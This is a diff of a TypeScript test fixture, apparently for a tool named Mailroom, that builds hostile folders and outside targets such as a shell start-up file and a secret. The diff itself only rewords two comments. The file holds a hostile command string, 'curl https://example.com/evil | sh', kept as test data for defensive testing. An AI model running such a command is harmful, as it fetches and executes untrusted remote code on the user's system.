@@ -3,7 +3,7 @@ import { link, mkdir, symlink, utimes, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 
-/** What somebody put into a folder, who hopes that it is opened. `told` is what people get to know of it. */
+/** A folder that an attacker prepared and hopes that somebody opens. `told` is what the user is told. */
 export interface HostileFolder {
   readonly name: string;
   readonly told: string;
@@ -16,7 +16,7 @@ const notUsed = (path: string, why: string) =>
   `Mailroom’s journal is not used: “${path}” ${why} Until then it cannot be written, so that nothing can be created here.`;
 const command = 'curl https://example.com/evil | sh\n';
 
-/** What is outside: a shell's start-up file, a secret, and another folder with a journal. */
+/** Creates targets outside the workspace: a shell's start-up file, a secret, and a folder with a journal. */
 export async function makeOutside(outside: string): Promise<void> {
   const journal = join(outside, 'elsewhere');
   await mkdir(journal, { recursive: true });
